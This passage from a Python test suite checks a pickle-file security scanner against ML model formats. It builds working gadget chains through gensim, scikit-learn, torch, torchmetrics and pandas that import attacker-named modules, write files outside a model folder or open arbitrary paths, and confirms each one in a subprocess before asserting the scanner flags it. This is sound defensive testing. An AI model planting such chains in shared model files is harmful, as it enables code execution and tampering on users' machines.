    from gensim.models.ensemblelda import EnsembleLda
    from gensim.similarities.docsim import Shard

    model = Word2Vec([["a", "b"]], vector_size=4, min_count=1, workers=1)
    assert not _rules(tmp_path / "real", pickle.dumps(model, protocol=2))
    assert "WS-PKL-014" in _rules(tmp_path / "call", _dump(_Call(Word2Vec, ([["a"]] * 1000,))))
    state = {"topic_model_module_string": "os", "topic_model_class_string": "system", "fname": "/tmp/x"}
    for name, cls in {"shard": Shard, "reader": LowCorpus}.items():
        assert "WS-PKL-003" in _rules(tmp_path / name, _dump(_restored(cls, state)))
    assert _rules(tmp_path / "ensemble", _dump(_restored(EnsembleLda, state))) == {"WS-PKL-038"}


def test_an_ensemble_lda_naming_a_class_to_import_is_high(tmp_path: Path) -> None:
    """gensim's EnsembleLda imports the module its state names and calls the class named beside it the first time it
    needs its topic model class: at save(), add_model() and recluster(). Proved with gensim's own load and save: a
    module file on the path (a model folder a notebook runs beside), named in the state, runs. gensim's own file
    passes; a name other than its LDA classes, or a class kept in the state (gensim never saves it), is WS-PKL-038."""
    from gensim.corpora import Dictionary
    from gensim.models import EnsembleLda
    from gensim.utils import SaveLoad

    texts = [["cat", "sat", "mat"], ["dogs", "ran", "fast"], ["big", "red", "dog"]] * 10
    words = Dictionary(texts)
    corpus = [words.doc2bow(text) for text in texts]
    real = tmp_path / "real" / "ensemble.model"
    real.parent.mkdir()
    EnsembleLda(corpus=corpus, id2word=words, num_topics=2, num_models=2, passes=1, random_state=7).save(str(real))
    assert not _rules(tmp_path / "real-scan", real.read_bytes())

    loaded = SaveLoad.load(str(real))  # made above, by gensim: its state as gensim restores it
    assert (loaded.topic_model_module_string, loaded.topic_model_class_string) == (
        "gensim.models.ldamulticore", "LdaMulticore")  # fmt: skip
    marker = tmp_path / "imported"
    folder = tmp_path / "model"
    folder.mkdir()
    (folder / "topic_helper.py").write_text(f"open({str(marker)!r}, 'w').close()\nLdaModel = dict\n")
    loaded.topic_model_module_string = "topic_helper"
    hostile = folder / "ensemble.model"
    hostile.write_bytes(pickle.dumps(loaded, protocol=4))
    use = "import sys; from gensim.models import EnsembleLda; EnsembleLda.load(sys.argv[1]).save(sys.argv[1] + '.2')"
    env = {**os.environ, "PYTHONPATH": str(folder)}
    subprocess.run([sys.executable, "-c", use, str(hostile)], env=env, capture_output=True, timeout=300, check=False)
    assert marker.exists(), "gensim no longer imports the module its state names: revisit WS-PKL-038"
    assert _rules(tmp_path / "module", hostile.read_bytes()) == {"WS-PKL-038"}

    loaded.topic_model_module_string, loaded.topic_model_class_string = "gensim.models.ldamodel", "LdaModel"
    assert not _rules(tmp_path / "lda", pickle.dumps(loaded, protocol=4))
    loaded.topic_model_class = hash  # gensim calls a class in the state without importing anything
    assert _rules(tmp_path / "kept", pickle.dumps(loaded, protocol=4)) == {"WS-PKL-038"}


def test_torchmetrics_metrics_pass_restored_from_state_but_not_called(tmp_path: Path) -> None:
    """A metric pickled, or saved with torch.save in a checkpoint, is restored from state: clean. A metric class
    called by the pickle (a constructor that allocates its state) or kept as a value is not what a real file does,
    and the metrics that load a network from the path or hub name their state holds stay unknown."""
    import torch
    from torchmetrics.classification import MulticlassAccuracy
    from torchmetrics.multimodal.clip_score import CLIPScore
    from torchmetrics.text.bert import BERTScore

    metric = MulticlassAccuracy(3)
    metric.update(torch.tensor([0, 1, 2]), torch.tensor([0, 1, 1]))
    saved = io.BytesIO()
    torch.save({"metric": metric, "epoch": 1}, saved)
    assert not _rules(tmp_path / "real", saved.getvalue())
    assert not _rules(tmp_path / "pickled", pickle.dumps(metric))
    assert "WS-PKL-014" in _rules(tmp_path / "call", _dump(_Call(MulticlassAccuracy, (1 << 24,))))
    kept = _restored(MulticlassAccuracy, {"metric": MulticlassAccuracy})
    assert "WS-PKL-022" in _rules(tmp_path / "value", _dump(kept))
    for name, cls in {"bert": BERTScore, "clip": CLIPScore}.items():
        state = {"model_name_or_path": str(tmp_path / "outside"), "model": None}
        assert "WS-PKL-003" in _rules(tmp_path / name, _dump(_restored(cls, state)))


_METRIC_USE = (
    "import pickle, sys, warnings, torch; warnings.simplefilter('ignore'); "
    "m = pickle.load(open(sys.argv[1], 'rb')); m.update(torch.tensor([0.9, 0.1]), torch.tensor([1, 0])); m.compute()"
)


def _metric_with_compute(compute: object, extra: dict[str, object], df: object, tags: object) -> bytes:
    """A real BinaryAccuracy after one batch, its state's `compute` replaced, `extra` added to its state, and
    `__sklearn_tags__` added to the DataFrame's (when `tags` is given)."""
    import pandas as pd
    import torch
    from torchmetrics.classification import BinaryAccuracy

    metric = BinaryAccuracy()
    metric.update(torch.tensor([0.2, 0.8, 0.6]), torch.tensor([0, 1, 0]))

    class Writer(pickle.Pickler):
        def reducer_override(self, obj: object) -> object:
            if obj is df and tags is not None:
                assert isinstance(obj, pd.DataFrame)
                reduced = list(obj.__reduce_ex__(2))
                reduced[2] = dict(reduced[2], __sklearn_tags__=tags)
                return tuple(reduced)
            if obj is metric:
                return (copyreg.__newobj__, (type(obj),), {**metric.__getstate__(), "compute": compute, **extra})  # type: ignore[attr-defined]
            return NotImplemented

    buffer = io.BytesIO()
    Writer(buffer, protocol=2).dump(metric)
    return buffer.getvalue()


def test_a_callable_stored_under_a_method_name_is_high(tmp_path: Path) -> None:
    """A review's bypass, 0 findings before: a torchmetrics metric whose state sets `compute` (Metric.__setstate__
    wraps it, the user's compute() calls it) to a torch hook object that calls its hook with its module, here a
    restored scikit-learn Parallel running a task list: a scorer that calls the method its state names on a
    DataFrame, whose state's `__sklearn_tags__` passes scikit-learn's check. DataFrame.to_csv then wrote a file
    outside the folder at compute() (DataFrame.eval ran a shell command the same way). Every object was on an
    allowlist; what no writer makes is a callable under a method's name (WS-PKL-026). Parallel is off the
    allowlist now as well."""
    import collections
    import functools
    import types

    import numpy as np
    import pandas as pd
    from sklearn.metrics import make_scorer
    from sklearn.utils.parallel import Parallel
    from torch.nn.modules.module import _WrappedHook

    outside, model = tmp_path / "outside", tmp_path / "model"
    outside.mkdir()
    model.mkdir()
    written = outside / "written.csv"
    df = pd.DataFrame({"x": [1]}, index=pd.Index(["attacker-chosen content"], dtype=object))
    scorer = make_scorer(np.equal, response_method=("to_csv",))
    tags = functools.partial(types.SimpleNamespace, estimator_type="regressor")
    parallel = Parallel.__new__(Parallel)  # restored from state: sequential, no backend
    parallel.__dict__.update(n_jobs=1, batch_size=1, verbose=0, timeout=None, pre_dispatch="all", return_as="list",
                             return_generator=False, return_ordered=True, _backend=None, _managed_backend=True,
                             _running=False, _backend_kwargs={})  # fmt: skip
    tasks = collections.deque([(scorer, (df, str(written), 0), {})])
    blob = _metric_with_compute(_WrappedHook(parallel, module=tasks), {"_tasks": tasks}, df, tags)
    sample = model / "metric.pkl"
    sample.write_bytes(blob)
    used = subprocess.run([sys.executable, "-c", _METRIC_USE, str(sample)], cwd=model, capture_output=True,
                          text=True, timeout=300)  # fmt: skip
    assert written.is_file() and "attacker-chosen content" in written.read_text(), used.stderr[-2000:]
    found = scan_bytes(tmp_path / "scan", blob, "metric.pkl").findings
    flagged = {(f.rule_id, str(f.evidence.get("name"))) for f in found if f.severity >= Severity.HIGH}
    assert {("WS-PKL-026", "compute"), ("WS-PKL-026", "__sklearn_tags__"), ("WS-PKL-003", "")} <= {
        (rule, name if rule == "WS-PKL-026" else "") for rule, name in flagged
    }
    # Each link alone: a named function under the method's name, and the metric's own load-time call.
    assert "WS-PKL-026" in _rules(tmp_path / "named", _metric_with_compute(np.mean, {}, df, None))
    wrapped = _metric_with_compute(None, {"_wrap_update": np.mean, "update": np.mean}, df, None)
    assert "WS-PKL-026" in _rules(tmp_path / "load-time", wrapped)
    # What real files keep under such names passes: gensim's `load` replaced by one that raises, interp1d's `_call`.
    from gensim.models import Word2Vec
    from scipy.interpolate import interp1d

    word2vec = Word2Vec([["a", "b"]], vector_size=4, min_count=1, workers=1)
    spline = interp1d(np.arange(6.0), np.arange(6.0) ** 2, kind="cubic")
    assert not _rules(tmp_path / "real", pickle.dumps([word2vec, spline]))


def test_an_object_in_an_attribute_the_library_calls_is_high(tmp_path: Path) -> None:
    """A second review's bypass, 0 findings before, no method name involved: FunctionTransformer calls its `func`,
    here torch's _WrappedHook, which calls its hook (a scorer) with the module it keeps (a real regressor); the
    scorer's score function is another _WrappedHook, whose scorer calls `transform` on a StackingRegressor, which
    calls the method its state names (`tofile`) on the array its state holds, with the path the transformer's
    kw_args gave: a file written outside the folder at the user's transform(). Such attributes hold named
    functions in real files (WS-PKL-027)."""
    import numpy as np
    from sklearn.dummy import DummyRegressor
    from sklearn.ensemble import StackingRegressor
    from sklearn.metrics._scorer import _Scorer
    from sklearn.preprocessing import FunctionTransformer, StandardScaler
    from torch.nn.modules.module import _WrappedHook

    outside, model = tmp_path / "outside", tmp_path / "model"
    outside.mkdir()
    model.mkdir()
    written = outside / "written.bin"
    regressor = DummyRegressor().fit([[0.0]], [0.0])
    stack = StackingRegressor(estimators=[("a", DummyRegressor())])
    stack.estimators_ = [np.array([b"attacker bytes"])]
    stack.stack_method_ = ["tofile"]
    stack.final_estimator_ = DummyRegressor().fit([[0.0]], [0.0])
    inner = _WrappedHook(_Scorer(score_func=DummyRegressor, sign=1, kwargs={}, response_method="transform"),
                         module=stack)  # fmt: skip
    outer = _WrappedHook(_Scorer(score_func=inner, sign=1, kwargs={}, response_method="predict"), module=regressor)
    transformer = FunctionTransformer(func=outer, kw_args={"y_true": str(written)}, validate=False).fit([[0.0]])
    transformer.inv_kw_args = {"keep": (regressor, stack)}  # the hooks keep weak references only
    sample = model / "transformer.pkl"
    sample.write_bytes(pickle.dumps(transformer, protocol=4))
    use = "import pickle, sys, numpy as np; pickle.load(open(sys.argv[1], 'rb')).transform(np.zeros((3, 1)))"
    used = subprocess.run([sys.executable, "-c", use, str(sample)], capture_output=True, text=True, timeout=300)
    assert written.is_file() and b"attacker bytes" in written.read_bytes(), used.stderr[-2000:]
    assert "WS-PKL-027" in _rules(tmp_path / "scan", sample.read_bytes())
    # Made by a call instead, the attribute is no state: scikit-learn's constructors are never called by real files.
    scorer = _Call(_Scorer, (DummyRegressor, 1, {}, "transform"))
    assert "WS-PKL-014" in _rules(tmp_path / "call", _dump(_Call(FunctionTransformer, (scorer,))))
    # The method a scorer or a stacking ensemble calls by name is a prediction method in real files (WS-PKL-028).
    from sklearn.metrics import get_scorer, make_scorer

    assert "WS-PKL-028" in _rules(tmp_path / "query", pickle.dumps(make_scorer(np.equal, response_method=("query",))))
    stack.stack_method_ = ["predict"]
    assert _rules(tmp_path / "stack", pickle.dumps(stack)) == set()
    stack.stack_method_ = ["tofile"]
    assert _rules(tmp_path / "tofile", pickle.dumps(stack)) == {"WS-PKL-028"}
    # torch calls a module's _compiled_call_impl at model(x) when it is set (a sixth review reached a scorer so).
    import torch
    from sklearn.gaussian_process import GaussianProcessRegressor

    state = {**torch.nn.Identity().__dict__, "_compiled_call_impl": make_scorer(np.equal)}  # __getstate__ drops it
    assert "WS-PKL-027" in _rules(tmp_path / "compiled", _dump(_restored(torch.nn.Identity, state)))
    # A named function there passes, as real files keep it; so do a Gaussian process's kernels.
    real = [FunctionTransformer(np.log1p).fit([[1.0]]), FunctionTransformer(np.sqrt, inverse_func=np.square),
            GaussianProcessRegressor().fit([[0.0], [1.0]], [0.0, 1.0])]  # fmt: skip
    assert not _rules(tmp_path / "real", pickle.dumps([*real, StandardScaler(), get_scorer("roc_auc")]))


def test_callables_in_hook_tables_and_long_method_lists_are_high(tmp_path: Path) -> None:
    """A third review's bypasses, 0 findings before: a KNeighborsRegressor whose `effective_metric_` (called on
    every pair of rows) was scikit-learn's validation-score callback, which calls its estimator's score with data
    of its state, through a grid search's scorer whose method list held 64 prediction methods and then
    `save_model`: XGBoost wrote a model file outside the folder at the user's predict(). The same callback in a
    torch module's `_forward_pre_hooks` did it at model(x). The callback is off the allowlist, the metric and the
    hook tables are judged like the other attributes libraries call (WS-PKL-027), and a method list is read to
    its end (WS-PKL-028)."""
    import numpy as np
    import torch
    import xgboost
    from sklearn.linear_model import LinearRegression
    from sklearn.linear_model._stochastic_gradient import _ValidationScoreCallback
    from sklearn.metrics import r2_score
    from sklearn.metrics._scorer import _Scorer
    from sklearn.model_selection import GridSearchCV
    from sklearn.neighbors import KNeighborsRegressor
    from sklearn.pipeline import Pipeline

    outside, model = tmp_path / "outside", tmp_path / "model"
    outside.mkdir()
    model.mkdir()
    written = outside / "model.json"
    booster = xgboost.XGBRegressor(n_estimators=1, max_depth=1).fit(np.arange(8.0).reshape(4, 2), np.arange(4.0))
    scorer = object.__new__(_Scorer)
    scorer.__dict__.update(_score_func=r2_score, _sign=1, _kwargs={},
                           _response_method=tuple(["decision_function"] * 64 + ["save_model"]))  # fmt: skip
    search = object.__new__(GridSearchCV)
    search.__dict__.update(estimator=LinearRegression(), scoring=None, refit=True, multimetric_=False,
                           scorer_=scorer, best_estimator_=booster, n_splits_=2)  # fmt: skip
    pipeline = object.__new__(Pipeline)
    pipeline.__dict__.update(steps=[("search", search)], transform_input=None, memory=None, verbose=False)
    callback = object.__new__(_ValidationScoreCallback)
    callback.__dict__.update(estimator=pipeline, X_val=str(written), y_val=None, sample_weight_val=None)
    knn = KNeighborsRegressor(n_neighbors=1, algorithm="brute").fit(np.arange(8.0).reshape(4, 2), np.arange(4.0))
    knn.metric = knn.effective_metric_ = callback
    sample = model / "knn.pkl"
    sample.write_bytes(pickle.dumps(knn))
    use = "import pickle, sys; pickle.load(open(sys.argv[1], 'rb')).predict([[1.0, 2.0]])"
    used = subprocess.run([sys.executable, "-c", use, str(sample)], capture_output=True, text=True, timeout=300)
    assert written.is_file(), used.stderr[-2000:]
    assert {"WS-PKL-003", "WS-PKL-027", "WS-PKL-028"} <= _rules(tmp_path / "knn", sample.read_bytes())
    # Each check alone, on objects that are all allowed.
    scorer.__dict__["_response_method"] = tuple(["predict"] * 64 + ["save_model"])
    assert _rules(tmp_path / "long", pickle.dumps(scorer)) == {"WS-PKL-028"}
    layer = torch.nn.Identity()
    layer._forward_pre_hooks[0] = scorer
    scorer.__dict__["_response_method"] = "predict"
    assert _rules(tmp_path / "hooks", pickle.dumps(layer)) == {"WS-PKL-027"}
    # torch's Module answers a name its class lacks from its submodules, scikit-learn's Bunch from its items: copy
    # asks the instance for __deepcopy__, scikit-learn for __sklearn_tags__.
    from sklearn.utils import Bunch

    proxy = torch.nn.Identity()
    proxy._modules["__deepcopy__"] = scorer  # type: ignore[assignment]
    assert _rules(tmp_path / "proxy", pickle.dumps(proxy)) == {"WS-PKL-026", "WS-PKL-029"}  # not a module either
    assert _rules(tmp_path / "bunch", pickle.dumps(Bunch(__sklearn_tags__=scorer))) == {"WS-PKL-026"}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # the hook-based norms are deprecated, still in saved models
        hooked = [torch.nn.utils.weight_norm(torch.nn.Linear(2, 2)),
                  torch.nn.utils.spectral_norm(torch.nn.Linear(2, 2))]
    assert not _rules(tmp_path / "real", pickle.dumps(hooked))


def test_states_and_items_given_by_calls_are_judged(tmp_path: Path) -> None:
    """A fourth review's bypass, 0 findings before: torch's _rebuild_from_type_v2(copyreg.__newobj__, T, (T,),
    state) restores any allowed class T with a state of its own, which the checks of BUILD's state never saw; the
    earlier chains hidden that way ran a shell command at transform(). Now that state, a parameter's, the
    backward hooks torch's tensor rebuilds set, and a dict a call fills an object with are judged like BUILD's;
    ClassifierChain's chain_method_ is a method name like the scorers'."""
    from collections import OrderedDict

    import torch
    from sklearn.dummy import DummyRegressor
    from sklearn.metrics._scorer import _Scorer
    from sklearn.multioutput import ClassifierChain
    from sklearn.preprocessing import FunctionTransformer
    from sklearn.utils import Bunch

    rebuild = torch._tensor._rebuild_from_type_v2  # type: ignore[attr-defined]
    scorer = _Scorer(DummyRegressor, 1, {}, "predict")
    hidden = _Call(rebuild, (copyreg.__newobj__, FunctionTransformer, (FunctionTransformer,), {"func": scorer}))  # type: ignore[attr-defined]
    assert "WS-PKL-027" in _rules(tmp_path / "rebuild", _dump(hidden))
    ordered = _Call(rebuild, (copyreg.__newobj__, FunctionTransformer, (FunctionTransformer,),  # type: ignore[attr-defined]
                              _Call(OrderedDict, (), items={"func": scorer})))  # fmt: skip
    assert "WS-PKL-027" in _rules(tmp_path / "ordered", _dump(ordered))
    hooks = _Call(torch._utils._rebuild_parameter, (torch.zeros(1), True, _Call(OrderedDict, (), items={0: scorer})))
    assert "WS-PKL-027" in _rules(tmp_path / "hooks", _dump(hooks))
    filled = _Call(copyreg._reconstructor, (Bunch, dict, {"__deepcopy__": scorer}))  # type: ignore[attr-defined]
    assert "WS-PKL-026" in _rules(tmp_path / "bunch", _dump(filled))
    assert "WS-PKL-028" in _rules(tmp_path / "chain", _dump(_restored(ClassifierChain, {"chain_method_": "fit"})))
    # A fifth review: an EasyDict whose `transform` item (EasyDict makes items attributes) was scikit-learn's L-BFGS
    # callback bridge, as a pipeline step, reached a progress bar that connected to an address and unpickled the
    # reply at predict(). Every item of such a dict is an attribute; the fit-time callbacks are off the allowlist.
    from easydict import EasyDict
    from sklearn.callback import ProgressBar

    step = EasyDict()
    step["transform"] = scorer
    assert _rules(tmp_path / "easydict", pickle.dumps(step)) == {"WS-PKL-026"}
    assert "WS-PKL-003" in _rules(tmp_path / "progress", _dump(_restored(ProgressBar, {"_listener_handles": {}})))
    config = EasyDict(weights={"path": "w.bin"}, transform="resize", lr=0.1)
    real = [torch.nn.Parameter(torch.zeros(2)), torch.nn.Linear(2, 2), Bunch(a=1, b=[2]), config]
    assert not _rules(tmp_path / "real", pickle.dumps(real))


class _OwnBlock:  # stands for a model's own block class: a torch module the allowlist does not know
    pass


def test_submodules_and_scorers_the_libraries_call_are_judged_by_their_class(tmp_path: Path) -> None:
    """A torch container calls every value of its `_modules` at model(x), and a multi-metric scorer every value of
    its `_scorers` with the estimator its search keeps: the last two tables the reviews found holding any allowed
    object unjudged. Real files keep modules and scorers there (WS-PKL-029); a class outside the allowlist is
    WS-PKL-003 alone."""
    import numpy as np
    import torch
    import torchmetrics
    from sklearn.datasets import make_classification
    from sklearn.dummy import DummyRegressor
    from sklearn.linear_model import LogisticRegression
    from sklearn.metrics import check_scoring
    from sklearn.metrics._scorer import _MultimetricScorer, _Scorer
    from sklearn.model_selection import GridSearchCV
    from sklearn.preprocessing import FunctionTransformer

    scorer = _Scorer(DummyRegressor, 1, {}, "predict")
    wrapped = torch.nn.Sequential(torch.nn.Linear(2, 2))
    wrapped._modules["1"] = scorer  # type: ignore[assignment]
    assert _rules(tmp_path / "scorer", pickle.dumps(wrapped)) == {"WS-PKL-029"}
    wrapped._modules["1"] = torch.nn.functional.relu  # type: ignore[assignment]
    assert _rules(tmp_path / "function", pickle.dumps(wrapped)) == {"WS-PKL-029"}
    wrapped._modules["1"] = FunctionTransformer(np.sum)  # type: ignore[assignment]
    assert _rules(tmp_path / "estimator", pickle.dumps(wrapped)) == {"WS-PKL-029"}
    multi = _MultimetricScorer(scorers={"a": scorer, "b": FunctionTransformer(np.sum)})
    assert _rules(tmp_path / "multi", pickle.dumps(multi)) == {"WS-PKL-029"}
    # Real files: layers, containers and metrics as submodules; the scorers a multi-metric search makes.
    x, y = make_classification(n_samples=40, random_state=0)
    search = GridSearchCV(LogisticRegression(), {"C": [1.0]}, scoring=["accuracy", "f1"], refit="f1", cv=2)
    model = torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ModuleList([torch.nn.ReLU()]),
                                torchmetrics.MetricCollection([torchmetrics.MeanMetric()]))  # fmt: skip
    both = check_scoring(LogisticRegression(), scoring=["accuracy", "f1", "neg_log_loss"])  # a _MultimetricScorer
    assert not _rules(tmp_path / "real", pickle.dumps([model, search.fit(x, y), both]))
    own = torch.nn.Sequential(torch.nn.Linear(2, 2))
    own._modules["1"] = _OwnBlock()  # type: ignore[assignment]
    assert _rules(tmp_path / "own", pickle.dumps(own)) == {"WS-PKL-003"}


def test_a_state_of_name_value_pairs_is_judged_like_a_dict(tmp_path: Path) -> None:
    """A seventh review's bypass, 0 findings before: torch's Module.__setstate__ updates its __dict__ with the state,
    which takes a list or tuple of (name, value) pairs as well as a dict, and no check read such a state; a scorer
    among a Sequential's submodules, or a callable as its `forward`, passed."""
    import torch
    from sklearn.dummy import DummyRegressor
    from sklearn.metrics._scorer import _Scorer

    scorer = _Scorer(DummyRegressor, 1, {}, "predict")
    state = dict(torch.nn.Sequential(torch.nn.Linear(2, 2)).__dict__)
    state["_modules"] = {"0": torch.nn.Linear(2, 2), "1": scorer}
    for name, shape in {"list": list(state.items()), "tuple": tuple(state.items())}.items():
        assert _rules(tmp_path / name, _dump(_restored(torch.nn.Sequential, shape))) == {"WS-PKL-029"}, name
    forward = dict(torch.nn.Identity().__dict__, forward=scorer)
    # (a scorer is no bound method, which is all a fused Ultralytics layer keeps as its forward: WS-PKL-027 too)
    assert _rules(tmp_path / "forward", _dump(_restored(torch.nn.Identity, list(forward.items())))) == {
        "WS-PKL-026", "WS-PKL-027"}
    real = dict(torch.nn.Sequential(torch.nn.Linear(2, 2)).__dict__)
    assert not _rules(tmp_path / "real", _dump(_restored(torch.nn.Sequential, list(real.items()))))
    # A ninth review: every pair a call's result.
    made = [_Call(tuple, ([key, value],)) for key, value in dict(torch.nn.Identity().__dict__, forward=scorer).items()]
    assert _rules(tmp_path / "made", _dump(_restored(torch.nn.Identity, made))) == {"WS-PKL-025"}
    # An eighth review: dict.update takes a dict of two keys as the pair of its keys.
    keys = [*dict(torch.nn.Identity().__dict__).items(), {"forward": 0, scorer: 0}]  # type: ignore[dict-item]
    assert _rules(tmp_path / "keys", _dump(_restored(torch.nn.Identity, keys))) == {"WS-PKL-026", "WS-PKL-027"}


def test_a_time_zone_name_that_opens_a_file_is_high(tmp_path: Path) -> None:
    """The same review: pandas hands a zone named `dateutil/<path>` to dateutil's gettz, which opens any path, while
    the pickle loads (DatetimeTZDtype) or at the first call (a partial of Timestamp in a hook table). Proved here
    with the real loader and an audit hook; WS-PKL-030. Real pickles keep zone objects."""
    import functools

    import pandas as pd

    outside = tmp_path / "outside" / "zone"
    outside.parent.mkdir()
    outside.write_bytes(b"not a zone")
    name = f"dateutil/{outside}"
    sample = tmp_path / "dtype.pkl"
    sample.write_bytes(_dump(_Call(pd.DatetimeTZDtype, ("ns", name))))
    probe = ("import pickle, sys\n"
             "sys.addaudithook(lambda e, a: e == 'open' and str(a[0]) == sys.argv[2] and print('OPENED'))\n"
             "try:\n    pickle.load(open(sys.argv[1], 'rb'))\nexcept Exception:\n    pass\n")  # fmt: skip
    used = subprocess.run([sys.executable, "-c", probe, str(sample), str(outside)], capture_output=True, text=True,
                          timeout=300)  # fmt: skip
    assert "OPENED" in used.stdout, used.stderr[-2000:]
    assert _rules(tmp_path / "dtype", sample.read_bytes()) == {"WS-PKL-030"}
    later = functools.partial(pd.Timestamp, tz=name)
    assert _rules(tmp_path / "partial", pickle.dumps(later)) == {"WS-PKL-030"}
    # An eighth review: the name inside a dtype string, or computed with a codec where no constant shows it.
    series = _Call(pd.Series, ([], None, f"datetime64[ns, {name}]"))
    assert _rules(tmp_path / "series", _dump(series)) == {"WS-PKL-030"}
    arrow = _Call(pd.Series, ([], None, f"timestamp[ns, tz={name}][pyarrow]"))  # an eleventh review's spelling
    assert _rules(tmp_path / "arrow", _dump(arrow)) == {"WS-PKL-030"}
    rot13 = _Call(codecs.encode, (codecs.encode(name, "rot13"), "rot13"))
    assert _rules(tmp_path / "rot13", _dump(_Call(pd.DatetimeTZDtype, ("ns", rot13)))) == {"WS-PKL-031"}
    decoded = _Call(str, (name.encode(), "ascii"))
    assert "WS-PKL-031" in _rules(tmp_path / "decoded", _dump(_Call(pd.DatetimeTZDtype, ("ns", decoded))))
    # A ninth review: the zone restored as a dtype's state, and str(dtype) as the Series' dtype string.
    restored = _restored(pd.DatetimeTZDtype, {"tz": name, "unit": "ns"})
    assert _rules(tmp_path / "state", _dump(_Call(pd.Series, ([], None, _Call(str, (restored,)))))) == {
        "WS-PKL-030", "WS-PKL-031"}
    # A tenth review: the name as a NumPy string scalar (its text kept as UCS-4 bytes), or decoded by numpy.str_.
    import numpy as np

    for protocol in (2, 4):
        scalar = _Call(pd.DatetimeTZDtype, ("ns", np.str_(name)))
        buffer = io.BytesIO()
        _Pickler(buffer, protocol=protocol).dump(scalar)
        assert _rules(tmp_path / f"scalar{protocol}", buffer.getvalue()) == {"WS-PKL-030"}, protocol
    assert "WS-PKL-031" in _rules(tmp_path / "np-decoded", _dump(_Call(np.str_, (name.encode(), "utf-8"))))
    real = [pd.DatetimeTZDtype("ns", "UTC"), pd.Timestamp("2020-01-01", tz="Europe/Berlin"),
            functools.partial(pd.Timestamp, tz="UTC")]  # fmt: skip
    assert not _rules(tmp_path / "real", pickle.dumps(real))
    # Data that mentions such a path is data: string arrays, a frame's string column, a string scalar.
    data = [np.array(["dateutil/parser.py", "x"]), np.array(["dateutil/tz", 1], dtype=object), np.str_("dateutil/"),
            pd.DataFrame({"path": ["dateutil/parser.py", "x"]})]  # fmt: skip
    for protocol in (2, 4):
        assert not _rules(tmp_path / f"data{protocol}", pickle.dumps(data[:3], protocol=protocol)), protocol
        assert not _rules(tmp_path / f"frame{protocol}", pickle.dumps(data[3], protocol=protocol)), protocol


def test_a_tfidf_models_weighting_functions_are_judged_as_called(tmp_path: Path) -> None:
    """gensim's TfidfModel calls its `normalize`, `wlocal` and `wglobal` on every document it transforms; gensim 3's
    SMART models keep partials of its weighting functions there (tests/data/old_gensim). An object there is
    WS-PKL-027, like any attribute a library calls; `normalize` is a method's name too, so that exception is named
    in `callable-members`."""
    from gensim.corpora import Dictionary
    from gensim.models import TfidfModel
    from sklearn.dummy import DummyRegressor
    from sklearn.metrics._scorer import _Scorer

    texts = [["a", "b"], ["b", "c"]]
    dictionary = Dictionary(texts)
    model = TfidfModel([dictionary.doc2bow(t) for t in texts], smartirs="ntc")
    assert not _rules(tmp_path / "real", pickle.dumps(model))
    for name in ("normalize", "wlocal", "wglobal"):
        setattr(model, name, _Scorer(DummyRegressor, 1, {}, "predict"))
        assert _rules(tmp_path / name, pickle.dumps(model)) == {"WS-PKL-027"}, name
        setattr(model, name, TfidfModel(dictionary=dictionary).normalize)


def test_scipy_objects_pass_restored_from_state_but_not_called(tmp_path: Path) -> None:
    """Fitted interpolators pass restored from state (slot state included: PPoly and interp1d keep attributes in
    __slots__). A constructor called by the pickle is not what a real file does, and the classes whose restore
    trusts compiled buffers or asks the state's objects for their array namespace stay unknown."""
    import numpy as np
    from scipy.interpolate import CubicSpline, RBFInterpolator
    from scipy.spatial import KDTree
    from scipy.spatial.transform import Rotation

    x = np.linspace(0.0, 1.0, 8)
    assert not _rules(tmp_path / "real", pickle.dumps(CubicSpline(x, x**2)))
    assert "WS-PKL-014" in _rules(tmp_path / "call", _dump(_Call(CubicSpline, (x, x**2))))
    for name, cls in {"rbf": RBFInterpolator, "tree": KDTree, "rotation": Rotation}.items():
        assert "WS-PKL-003" in _rules(tmp_path / name, _dump(_restored(cls, {"x": 1})))


def test_a_class_kept_under_a_method_name_runs_when_the_library_calls_the_method(tmp_path: Path) -> None:
    """A review's bypass: a pickle keeps a class in an object's state under the name of one of its methods, and
    the library's next call of that method runs the class's constructor. gensim's KeyedVectors.load upgrades an
    old vocabulary with self.set_vecattr(index, ...): kept as LowCorpus, that unpickles `index + ".index"`, here a
    file outside the model folder. The corpus reader is not on the allowlist, and an allowed model class kept as a
    value is WS-PKL-022; a torch layer or an estimator (constructors that only store parameters) passes as a value,
    but not under a method's name (WS-PKL-026)."""

    import numpy as np
    from gensim.corpora.lowcorpus import LowCorpus
    from gensim.models import Word2Vec
    from gensim.models.keyedvectors import CompatVocab, KeyedVectors
    from imblearn.over_sampling import SMOTE
    from torch import nn

    outside, model = tmp_path / "outside", tmp_path / "model"
    outside.mkdir()
    model.mkdir()
    marker = tmp_path / "MARKER"
    (outside / "kv.index").write_bytes(pickle.dumps(_Marker(marker), protocol=2))
    state = {"vector_size": 4, "index_to_key": ["king"], "vectors": np.zeros((1, 4), np.float32),
             "norms": None, "expandos": {}, "next_index": 1, "mapfile_path": None, "set_vecattr": LowCorpus,
             "vocab": {"king": _restored(CompatVocab, {"index": str(outside / "kv")})}}  # fmt: skip
    (model / "vectors.kv").write_bytes(_dump(_restored(KeyedVectors, state)))
    load = "import sys; from gensim.models import KeyedVectors; KeyedVectors.load(sys.argv[1])"
    subprocess.run([sys.executable, "-c", load, str(model / "vectors.kv")], capture_output=True, timeout=300)
    assert marker.exists(), "gensim no longer runs a kept class: revisit this review's case"
    found = scan_bytes(tmp_path / "scan", (model / "vectors.kv").read_bytes(), "vectors.kv").findings
    assert any(f.rule_id == "WS-PKL-003" and "LowCorpus" in f.message for f in found)

    kept = {"words": Word2Vec, "vectors": KeyedVectors}
    assert "WS-PKL-022" in _rules(tmp_path / "kept", _dump(_restored(KeyedVectors, {"set_vecattr": kept["words"]})))
    assert "WS-PKL-022" in _rules(tmp_path / "kept2", _dump([kept["vectors"]]))
    harmless = _restored(KeyedVectors, {"layer": nn.Linear, "other": SMOTE})
    assert not _rules(tmp_path / "values", _dump(harmless))
    # Under a method's name even a class whose constructor only stores parameters is what no writer makes.
    assert _rules(tmp_path / "method", _dump(_restored(KeyedVectors, {"set_vecattr": nn.Linear}))) == {"WS-PKL-026"}


def test_slot_state_runs_setters_so_it_is_judged(tmp_path: Path) -> None:
    """BUILD's (dict, slots) state sets the slot items with setattr, which runs property setters: a review ran a
    gensim CoherenceModel's `topics` setter at pickle.load that way. Writers produce it only for classes that
    keep attributes in __slots__: on an allowed class that does not (CoherenceModel is, as gensim saves it), it is
    WS-PKL-023; a class outside the allowlist is WS-PKL-003 already."""

